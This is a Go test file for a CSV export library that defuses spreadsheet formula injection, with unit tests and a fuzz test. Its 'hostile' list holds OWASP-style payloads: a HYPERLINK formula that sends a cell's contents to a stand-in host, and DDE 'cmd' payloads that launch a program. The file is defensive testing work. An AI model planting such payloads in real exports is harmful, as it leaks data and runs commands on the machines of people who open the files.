package safecsv_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"beredskap/internal/safecsv"
)

// hostile are cell values of OWASP's CSV injection page and its variants.
var hostile = []string{
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\")",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
}

func TestDefuse(t *testing.T) {
	for _, s := range hostile {
		if got := safecsv.Defuse(s); got != "'"+s {
			t.Errorf("Defuse(%q) = %q; want an apostrophe in front", s, got)
		}
	}
	for _, s := range []string{"", "Ola Nordmann", "Bygg & Anlegg AS", "123", "-42", "0301", "'=already", "Åse"} {
		if got := safecsv.Defuse(s); got != s {
			t.Errorf("Defuse(%q) = %q; want it unchanged", s, got)
		}
	}
	if got := safecsv.Defuse(safecsv.Defuse(hostile[0])); got != "'"+hostile[0] {
		t.Errorf("Defuse twice = %q; want one apostrophe", got)
	}
}

func TestWriter(t *testing.T) {
	for _, tt := range []struct {
		name string
		opt  safecsv.Options
		want string
	}{
		{"default", safecsv.Options{}, "navn,beløp\r\n'=1+1,-5\r\n\"a,b\",7\r\n"},
		{"norwegian", safecsv.Options{Comma: ';', BOM: true}, safecsv.BOM + "navn;beløp\r\n'=1+1;-5\r\na,b;7\r\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			w, err := safecsv.NewWriter(&b, tt.opt)
			if err != nil {
				t.Fatal(err)
			}
			_ = w.WriteStrings([]string{"navn", "beløp"})
			_ = w.Write("=1+1", -5)
			_ = w.Write("a,b", int64(7))
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if b.String() != tt.want {
				t.Errorf("wrote %q; want %q", b.String(), tt.want)
			}
		})
	}
	for _, comma := range []rune{'"', '\n', '\r', utf8.RuneError} {
		if _, err := safecsv.NewWriter(&bytes.Buffer{}, safecsv.Options{Comma: comma}); err == nil {
			t.Errorf("NewWriter with delimiter %q: no error", comma)
		}
	}
	var b bytes.Buffer
	w, _ := safecsv.NewWriter(&b, safecsv.Options{BOM: true})
	if err := w.Flush(); err != nil || b.String() != safecsv.BOM {
		t.Errorf("an empty export with a BOM = %q, %v; want the BOM alone", b.String(), err)
	}
}

// FuzzWriter checks that whatever a cell holds, the CSV read back has the
// same rows, and no cell begins as a formula.
func FuzzWriter(f *testing.F) {
	for _, s := range append(hostile, "", "Ola \"Ola\" Nordmann", "a;b,c\nd", "-17", "'=x") {
		f.Add(s, ';')
	}
	f.Fuzz(func(t *testing.T, cell string, comma rune) {
		if !utf8.ValidString(cell) {
			return // csv writes text: cells are valid UTF-8
		}
		var b bytes.Buffer
		w, err := safecsv.NewWriter(&b, safecsv.Options{Comma: comma, BOM: true})
		if err != nil {
			return // not a delimiter csv can use
		}
		if err := w.WriteStrings([]string{cell, "x"}); err != nil {
			return // csv refuses the cell
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), safecsv.BOM)))
		r.Comma = comma
		if comma == ',' || comma == 0 {
			r.Comma = ','
		}
		rows, err := r.ReadAll()
		if err != nil {
			t.Skipf("encoding/csv cannot read back %q with %q: %v", b.String(), comma, err)
		}
		want := safecsv.Defuse(cell)
		// With CRLF line ends encoding/csv writes a line end in a field as
		// \r\n, read back as \n, and drops a lone \r.
		want = strings.ReplaceAll(want, "\r", "")
		if len(rows) != 1 || len(rows[0]) != 2 || rows[0][0] != want {
			t.Fatalf("read back %q; want [[%q x]]", rows, want)
		}
		if got := rows[0][0]; got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && !isInt(got) {
			t.Fatalf("cell %q begins as a formula", got)
		}
	})
}

func isInt(s string) bool {
	s = strings.TrimPrefix(s, "-")
	return s != "" && strings.Trim(s, "0123456789") == ""
}
